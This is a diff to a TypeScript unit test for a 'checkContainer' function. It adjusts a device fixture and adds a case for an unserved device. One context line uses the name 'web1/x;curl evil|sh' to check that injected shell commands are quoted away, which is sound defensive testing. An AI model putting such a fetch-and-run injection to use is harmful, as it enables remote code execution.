@@ -71,7 +71,7 @@ describe("checkContainer", () => {
         env: {},
         defaultFile: "/nonexistent",
       }),
-      device: undefined,
+      device: "0:30",
       devices: new Set<string>(),
       exclusionReason: () => undefined,
       paths: ["proc/vprocfs-test"],
@@ -84,5 +84,13 @@ describe("checkContainer", () => {
     expect(await todoOf("web1/x;curl evil|sh")).toBe("vprocfs attach 'web1/x;curl evil|sh'");
     expect(await todoOf("web1/a'b")).toBe(`vprocfs attach 'web1/a'"'"'b'`);
     expect(await todoOf("web1")).toBe("vprocfs attach web1");
+    // Where nobody serves nothing can be attached.
+    const unserved = await checkContainer(
+      { ...container, name: "web1" },
+      { ...inputs, device: undefined },
+    );
+    const none = unserved.find(({ what }) => what.startsWith("no file of vprocfs"));
+    expect(none).toBeDefined();
+    expect(none).not.toHaveProperty("todo");
   });
 });
